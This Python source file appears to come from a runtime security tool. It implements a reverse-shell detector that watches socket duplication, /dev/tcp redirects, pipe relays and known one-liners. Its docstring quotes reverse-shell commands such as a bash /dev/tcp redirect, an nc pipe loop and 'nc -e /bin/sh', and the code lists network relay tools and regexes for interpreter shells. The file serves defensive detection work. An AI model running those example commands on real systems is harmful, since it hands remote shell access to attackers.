"""`reverse_shell`: a shell or interpreter whose stdin and stdout are one network socket.

- `reverse_shell.socket_stdio`: a shell or interpreter duplicates one network socket
  (IPv4/IPv6) onto fd 0 and fd 1 (`dup2(s, 0); dup2(s, 1)`), or a shell or interpreter
  starts with its stdin and stdout on the same socket (the eBPF sensor reports what fds
  0-2 really are at every exec, `Process.stdio`; recordings may carry `fd.types`).
- `reverse_shell.dev_tcp`: a shell command line that runs a shell or interpreter (or
  rewires the shell itself with `exec`) with fd 0 and fd 1 on the same `/dev/tcp` socket
  (`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`), followed redirection by redirection
  (`shell_redirects.py`).
- `reverse_shell.pipe_relay`: a shell reading its commands from a pipe (`sh -i`, or no
  script) whose output goes into a process holding a network connection, and whose input
  comes from that process or from a named pipe it fills (`cat f | sh -i 2>&1 | nc h p > f`).
- `reverse_shell.one_liner`: the classic one-liners, judged by the binary that runs them:
  `nc -e /bin/sh`, `ncat --exec`, `socat ... exec:...`, python/perl/ruby/php code that
  connects a socket and spawns a shell or pty.

Any other use of `/dev/tcp` (a health check over fd 3, `</dev/tcp/h/p` as a port probe)
is not a reverse shell: no program reads commands from the socket.

One attack is one detection: once a process is reported, its socket dup2s and the shell
it becomes are folded into that detection.

Static allowlist: super-servers that hand sockets to their children as stdio by design
(`inetd`, `xinetd`, `systemd` socket activation, `tcpserver`, `sshd` in inetd mode).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import ClassVar

from vigil.detections import Detection
from vigil.detectors.builtin import BuiltinDetector, DetectorParams
from vigil.detectors.event_args import int_arg
from vigil.detectors.detection_builder import (build_detection, describe_process,
                                               static_suppression)
from vigil.detectors.expiring_map import ExpiringMap
from vigil.detectors.params import minimum
from vigil.detectors.process_identity import (AgentIdentity, INTERPRETERS, SHELLS, binary_name,
                                              command_of, is_shell, matched_binary)
from vigil.detectors.shell_command import shell_command_of
from vigil.detectors.shell_redirects import socket_streams
from vigil.events.model import Event, FdInfo, Peer
from vigil.priority import Priority

NAME = "reverse_shell"
TAGS = ("attack.execution", "T1059.004", "attack.command_and_control", "T1071")
_EXEC = frozenset({"execve", "execveat"})
_DUP = frozenset({"dup", "dup2", "dup3"})
_CONNECTIONS = frozenset({"connect", "accept", "accept4"})
_NET = frozenset({"ipv4", "ipv6"})
_PIPES = frozenset({"pipe", "fifo"})
_EINPROGRESS = -115

#: programs that give a connected socket to a child as its stdio by design
SOCKET_SUPERSERVERS: frozenset[str] = frozenset({
    "inetd", "xinetd", "systemd", "tcpserver", "tcpsvd", "sshd", "sshd-session", "stunnel",
    "stunnel4", "s6-tcpserver", "rinetd",
})

_DEV_NET = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/(\d+)")
_NC = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox"})
#: programs made to carry a stream over the network (a pipe into one is a pipe to a socket)
NETWORK_RELAYS: frozenset[str] = _NC | frozenset({
    "socat", "telnet", "openssl", "cryptcat", "pwncat", "sbd", "rcat", "gnutls-cli",
})
#: binaries whose arguments are read as the command text
_INLINE_CODE_BINARIES = INTERPRETERS | _NC
_SCRIPT_CODE = {
    "python": re.compile(r"socket.*(pty\.spawn|subprocess|os\.dup2|/bin/(ba)?sh)", re.S),
    "perl": re.compile(r"socket.*(exec|open\(STD|/bin/(ba)?sh)", re.S | re.I),
    "ruby": re.compile(r"(TCPSocket|socket).*(exec|spawn|/bin/(ba)?sh)", re.S),
    "php": re.compile(r"fsockopen.*(exec|system|passthru|shell_exec|proc_open|/bin/(ba)?sh)",
                      re.S),
    "node": re.compile(r"(net\.Socket|connect\().*(child_process|/bin/(ba)?sh)", re.S),
}


@dataclass(frozen=True)
class ReverseShellParams(DetectorParams):
    """`[detectors.reverse_shell]`."""

    DETECTOR: ClassVar[str] = NAME
    #: how long a socket duplicated onto stdin/stdout waits for the matching second fd
    window_seconds: float = field(default=30.0, metadata=minimum(0))


def _interpreter_family(name: str) -> str | None:
    for family in _SCRIPT_CODE:
        if name.startswith(family):
            return family
    return None


def _inline_code(args: list[str]) -> str | None:
    for i, a in enumerate(args):
        if a in ("-c", "-e", "-r", "-E", "--eval") and i + 1 < len(args):
            return args[i + 1]
    return None


def _one_liner(binary: str, args: list[str]) -> str | None:
    """What makes this command a reverse-shell one-liner, or None."""
    joined = " ".join(args)
    if binary in _NC:
        for i, a in enumerate(args):
            if a in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or (
                    a.startswith("-") and not a.startswith("--") and "e" in a[1:]
                    and i + 1 < len(args) and args[i + 1].startswith("/")):
                return f"{binary} executing a program for a connection ({joined})"
        return None
    if binary == "socat":
        low = joined.lower()
        if re.search(r"\b(exec|system):", low) and re.search(r"\b(tcp|tcp4|tcp6|ssl|openssl|udp)", low):
            return f"socat joining a socket to a program ({joined})"
        return None
    family = _interpreter_family(binary)
    code = _inline_code(args) if family else None
    if family and code and _SCRIPT_CODE[family].search(code):
        return f"{binary} code connecting a socket to a shell"
    return None


def _socket_id(f: FdInfo) -> str:
    """What names one socket: its inode when the sensor gave it, else its two ends."""
    if f.ino:
        return f"ino:{f.ino}"
    return f"{f.lip or '?'}:{f.lport}->{f.rip or '?'}:{f.rport}"


def _remote(f: FdInfo) -> str:
    return f"{f.rip or '?'}:{f.rport if f.rport is not None else '?'}"


def _stdio_socket(event: Event) -> str | None:
    """The remote end of the one network socket that is both stdin and stdout of the
    process, or None. A recording with only `fd.types` says the types, not which socket:
    two network sockets on 0 and 1 are taken as one there."""
    stdio = event.proc.stdio
    if stdio:
        by_num = {f.num: f for f in stdio if f.type in _NET and f.num in (0, 1)}
        if 0 in by_num and 1 in by_num and _socket_id(by_num[0]) == _socket_id(by_num[1]):
            return _remote(by_num[0])
        return None
    types = event.fd.types if event.fd is not None and event.fd.types else {}
    if types.get(0) in _NET and types.get(1) in _NET:
        return str(types[0])
    return None


def _reads_commands_from_stdin(event: Event) -> bool:
    """A shell that takes its commands from stdin: `sh`, `sh -i`, `bash -s ARGS`."""
    if not is_shell(event.proc) or shell_command_of(event.proc) is not None:
        return False
    for a in event.proc.args:
        if a in ("-s", "-i", "--") or (a.startswith("-") and not a.startswith("--")
                                       and ("i" in a[1:] or "s" in a[1:])):
            return True
        if not a.startswith("-"):
            return False  # a script file
    return True


def _stdio_fd(event: Event, num: int) -> FdInfo | None:
    for f in event.proc.stdio or ():
        if f.num == num:
            return f
    return None


def _peer_name(peer: Peer) -> str:
    return (peer.exepath.rpartition("/")[2] if peer.exepath else None) or peer.name or "?"


class ReverseShellDetector(BuiltinDetector):
    """Shells and interpreters whose stdin and stdout are one network socket."""

    name = NAME
    Params = ReverseShellParams
    event_types = frozenset(_EXEC | _DUP | _CONNECTIONS)

    params: ReverseShellParams

    def __init__(self, params: ReverseShellParams | None = None,
                 own: AgentIdentity | None = None) -> None:
        super().__init__(params, own)
        window_ns = int(self.params.window_seconds * 1e9)
        #: pid -> {std fd: socket id} of sockets duplicated onto stdio
        self._stdio: ExpiringMap[int, dict[int, str]] = ExpiringMap(window_ns)
        self._reported: ExpiringMap[int, bool] = ExpiringMap(window_ns)
        #: pid -> remote end, for processes seen connecting or accepting a connection
        self._networked: ExpiringMap[int, str] = ExpiringMap(window_ns)
        #: pid of the process reading a shell's output -> that shell's exec event
        self._relay_candidates: ExpiringMap[int, Event] = ExpiringMap(window_ns)

    def on_event(self, event: Event) -> list[Detection]:
        """Report sockets on a shell's stdin and stdout and reverse-shell command lines."""
        if event.res is not None and event.res < 0 and not (
                event.type == "connect" and event.res == _EINPROGRESS):
            return []
        if event.type in _DUP:
            return self._on_dup(event)
        if event.type in _EXEC:
            return self._on_exec(event)
        if event.type in _CONNECTIONS:
            return self._on_connection(event)
        return []

    def _superserver(self, event: Event):
        proc = event.proc
        hit = matched_binary(proc, SOCKET_SUPERSERVERS) or (
            matched_binary(proc.parent, SOCKET_SUPERSERVERS) if proc.parent else None)
        if hit is None:
            return None
        return static_suppression(NAME, "superservers", hit,
                                  "super-servers give a connection to a child as its stdio")

    def _mark(self, event: Event) -> None:
        """The process is reported: its own later dup2s are the same attack."""
        if event.proc.pid is not None:
            self._reported.put(event.proc.pid, event.ts, True)

    def _folded(self, event: Event) -> bool:
        """Already reported: the process itself, or its parent (the shell that wired the
        socket and started the program on it); the process is then part of that story."""
        proc = event.proc
        hit = any(p is not None and p.pid is not None and self._reported.get(p.pid, event.ts)
                  for p in (proc, proc.parent))
        if hit:
            self._mark(event)
        return hit

    def _report_socket_stdio(self, event: Event, remote: str) -> list[Detection]:
        if self._folded(event):
            return []
        self._mark(event)
        output = (f"Standard input and output of {describe_process(event)} are one network "
                  f"socket to {remote}: {event.proc.cmdline() or '?'}")
        ip = remote.rsplit(":", 1)[0] if ":" in remote else None
        return [build_detection(NAME, "socket_stdio", Priority.CRITICAL, output, TAGS, event,
                                ip=ip if ip and ip != "?" else None,
                                data={"fds": [0, 1], "remote": remote},
                                suppressed=self._superserver(event))]

    def _on_dup(self, event: Event) -> list[Detection]:
        fd = event.fd
        # the result is the new fd for dup, dup2 and dup3 alike (close(0); dup(s) -> 0)
        newfd = event.res if event.res is not None else int_arg(event, "newfd")
        pid = event.proc.pid
        if fd is None or newfd not in (0, 1, 2) or pid is None:
            return []
        sockets = dict(self._stdio.get(pid, event.ts) or {})
        if fd.type not in _NET:
            # a file, pipe or terminal put back on the stream (bash restoring stdout after
            # `printf ... >&3`): that stream is no longer the socket
            if sockets.pop(newfd, None) is not None:
                self._stdio.put(pid, event.ts, sockets)
            return []
        if binary_name(event.proc) not in INTERPRETERS and not is_shell(event.proc):
            return []
        sockets[newfd] = _socket_id(fd)
        self._stdio.put(pid, event.ts, sockets)
        if 0 in sockets and sockets.get(1) == sockets[0]:
            return self._report_socket_stdio(event, _remote(fd))
        return []

    def _on_connection(self, event: Event) -> list[Detection]:
        fd, pid = event.fd, event.proc.pid
        if fd is None or fd.type not in _NET or pid is None:
            return []
        self._networked.put(pid, event.ts, _remote(fd))
        shell_event = self._relay_candidates.get(pid, event.ts)
        if shell_event is None:
            return []
        self._relay_candidates.pop(pid)
        return self._report_relay(shell_event, f"{binary_name(event.proc)} (pid {pid}) "
                                               f"connected with {_remote(fd)}")

    def _report_relay(self, event: Event, how: str) -> list[Detection]:
        if self._folded(event):
            return []
        self._mark(event)
        output = (f"Shell {describe_process(event)} reads commands from a pipe and writes its "
                  f"output into a network connection: {how}: {event.proc.cmdline() or '?'}")
        return [build_detection(NAME, "pipe_relay", Priority.CRITICAL, output, TAGS, event,
                                data={"command": event.proc.cmdline(), "relay": how},
                                suppressed=self._superserver(event))]

    def _pipe_relay(self, event: Event) -> list[Detection]:
        """`cat f | sh -i 2>&1 | nc h p > f`: sh's output goes into nc's connection."""
        if not _reads_commands_from_stdin(event):
            return []
        stdin, stdout = _stdio_fd(event, 0), _stdio_fd(event, 1)
        if stdin is None or stdout is None or stdin.type not in _PIPES \
                or stdout.type not in _PIPES or stdout.peer is None or stdout.peer.pid is None:
            return []
        reader = stdout.peer
        name = _peer_name(reader)
        if name in NETWORK_RELAYS:
            return self._report_relay(event, f"its output goes to {name} (pid {reader.pid})")
        remote = self._networked.get(reader.pid, event.ts)
        if remote is not None:
            return self._report_relay(event, f"its output goes to {name} (pid {reader.pid}), "
                                             f"connected with {remote}")
        # the reader has not connected yet (it starts with the shell): wait for it
        self._relay_candidates.put(reader.pid, event.ts, event)
        return []

    def _on_exec(self, event: Event) -> list[Detection]:
        proc = event.proc
        if self.own.owns(proc):
            return []
        out: list[Detection] = []
        if proc.pid is not None:
            self._stdio.pop(proc.pid)
        if is_shell(proc) or binary_name(proc) in INTERPRETERS:
            remote = _stdio_socket(event)
            if remote is not None:
                out += self._report_socket_stdio(event, remote)
        if not out:
            out += self._pipe_relay(event)
        command = command_of(proc)
        if command is None:
            return out
        binary, _path, args = command
        text = shell_command_of(proc) if binary in SHELLS or is_shell(proc) else None
        if text is None and binary in _INLINE_CODE_BINARIES:
            text = " ".join(args)
        if text and (streams := socket_streams(text, INTERPRETERS)) is not None:
            m = _DEV_NET.search(streams.socket)
            host, port = (m.group(2), int(m.group(3))) if m else (None, None)
            output = (f"Shell command runs {streams.program} with stdin and stdout on "
                      f"{streams.socket}: `{text}` by {describe_process(event)}")
            if not out:
                self._mark(event)
                out.append(build_detection(
                    NAME, "dev_tcp", Priority.CRITICAL, output, TAGS, event, ip=host,
                    data={"command": text, "port": port, "program": streams.program}))
            return out
        what = _one_liner(binary, args)
        if what and not out:
            self._mark(event)
            out.append(build_detection(
                NAME, "one_liner", Priority.CRITICAL,
                f"Reverse-shell one-liner: {what}, by {describe_process(event)}", TAGS, event,
                data={"command": proc.cmdline(), "binary": binary_name(proc)}))
        return out
